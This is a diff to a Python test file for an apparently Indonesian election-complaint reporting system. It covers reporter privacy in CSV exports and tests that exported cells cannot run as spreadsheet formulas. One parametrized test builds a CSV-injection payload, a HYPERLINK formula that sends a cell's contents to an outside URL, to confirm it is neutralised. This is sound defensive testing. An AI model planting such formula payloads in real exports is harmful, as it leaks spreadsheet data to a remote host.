@@ -34,7 +34,7 @@ def case(n: int, **changes: object) -> CaseRow:
         place_detail=None, event_date=dt.date(2024, 11, 19), learned_date=None,
         public_service="no", service_name=None, complained=None,
         description="<b>Mobil dinas</b> & spanduk " + "x" * 400, identity="anonymous",
-        reporter_name=None, reporter_phone=None, reporter_chat_id=1, language="id",
+        reporter_name=None, reporter_phone=None, reporter_chat="telegram:1", language="id",
         decision_json=Decision().model_dump_json(), evidence_count=2, bodies={"bawaslu": "Bawaslu Kota Serang"},
     )  # fmt: skip
     values.update(changes)
@@ -104,17 +104,23 @@ def test_visibility_rule() -> None:
     )
 
 
-def test_csv_identity_only_for_open_reports() -> None:
+def test_csv_identity_only_for_open_reports_and_handling_bodies() -> None:
     open_case = case(1, identity="open", reporter_name="Joko", reporter_phone="+62811")
     secret = case(2, identity="confidential", reporter_name="Sri", reporter_phone="+62812")
-    assert csv_row(open_case, J)[-2:] == ["Joko", "'+62811"]
-    assert csv_row(secret, J)[-2:] == ["", ""]
+    assert csv_row(open_case, J, "bawaslu")[-2:] == ["Joko", "'+62811"]
+    assert csv_row(secret, J, "bawaslu")[-2:] == ["", ""]
+    # an inspectorate overseeing the area sees the case, not who reported it
+    assert csv_row(open_case, J, "inspektorat")[-2:] == ["", ""]
+    assert csv_row(open_case, J, "ombudsman")[-2:] == ["", ""]
+    assert csv_row(open_case, J, None)[-2:] == ["Joko", "'+62811"]  # the operator's export
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
 def test_csv_cells_never_run_as_formulas(start: str) -> None:
     evil = f'{start}HYPERLINK("http://example.org/?x="&A1,"klik")'
-    row = csv_row(case(1, identity="open", reporter_name=evil, reporter_phone="+62811"), J)
+    row = csv_row(
+        case(1, identity="open", reporter_name=evil, reporter_phone="+62811"), J, "bawaslu"
+    )
     assert row[-2] == "'" + evil
     assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
